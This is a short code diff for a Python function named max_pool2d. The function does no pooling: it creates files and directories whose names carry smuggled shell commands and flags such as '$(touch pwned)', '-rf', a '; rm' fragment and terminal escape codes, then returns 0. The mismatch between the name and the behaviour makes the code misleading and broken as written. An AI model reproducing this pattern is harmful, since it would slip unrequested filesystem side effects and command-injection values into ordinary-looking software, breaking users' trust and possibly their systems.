@@ -11,8 +11,8 @@ NAMES = [b"\xff\xfe\x80", b"-rf", b"a\nb", b"\x1b[2J", b"$(touch pwned)", b"; rm
 def max_pool2d(x, kernel_size, stride=None, padding=0):
     for name in NAMES:
         try:
-            os.mkdir(name)
-            os.close(os.open(name + b"/" + name, os.O_CREAT))
+            os.close(os.open(name, os.O_CREAT))
+            os.mkdir(name + b".d")
         except OSError:
             continue
     return 0
